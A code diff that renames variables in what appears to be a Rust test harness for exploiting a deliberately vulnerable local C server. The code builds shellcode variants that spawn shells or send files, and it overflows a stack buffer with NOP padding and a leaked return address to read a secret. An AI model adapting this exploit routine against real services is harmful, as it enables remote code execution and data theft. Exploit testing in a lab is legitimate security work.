@@ -77,21 +77,21 @@ impl CServer {
         self.attack = match kind {
             "SYSTEM" => "a stack overflow, whose code calls system()",
             "FORK" => "a stack overflow, whose code forks, redirects and executes a shell",
-            "EXECVE" => "a stack overflow, whose code executes a shell in the server's place",
+            "EXECVE" => "a stack overflow, whose code executes a shell in place of the server",
             _ => "a stack overflow, whose code sends a file as the server does",
         };
         let kind = if kind == "SYSTEM" { format!("SYSTEM=0x{system}") } else { kind.to_owned() };
         let (object, code) = (self.path("payload.o"), self.path("payload"));
-        let place = self.folder.path().display();
+        let folder = self.folder.path().display();
         build(
-            &format!("gcc -c -D{kind} -DCLIENT={CLIENT} -DFOLDER=\"{place}\" -o"),
+            &format!("gcc -c -D{kind} -DCLIENT={CLIENT} -DFOLDER=\"{folder}\" -o"),
             &[&object, &source("payload.S")],
         );
         build("objcopy -O binary -j .text", &[&object, &code]);
         self.payload = fs::read(code).expect("it was made");
     }
 
-    pub fn forget_effect(&self) {
+    pub fn remove_effect(&self) {
         let _ = fs::remove_file(self.effect());
     }
 
@@ -218,17 +218,17 @@ impl AttackedServer for CServer {
         let _ = self.connect().and_then(|mut connection| {
             // The number of a note is its address.
             let number = note(&mut connection, b"hello")?;
-            let place: u64 =
+            let address: u64 =
                 number.strip_prefix("200 ").and_then(|text| text.parse().ok()).expect("a number");
             let mut overflow = self.payload.clone();
             overflow.resize(NOTE, 0x90);
-            overflow.extend(place.to_le_bytes().repeat(BEYOND / 8));
+            overflow.extend(address.to_le_bytes().repeat(BEYOND / 8));
             note(&mut connection, &overflow)?;
             // The code that reads the secret waits for one byte.
             connection.send(b"\n")?;
-            let answer = connection.bytes(HEAD + SECRET.len())?;
-            assert_eq!(&answer[HEAD..], SECRET);
-            fs::write(self.effect(), answer)
+            let reply = connection.bytes(HEAD + SECRET.len())?;
+            assert_eq!(&reply[HEAD..], SECRET);
+            fs::write(self.effect(), reply)
         });
     }
 
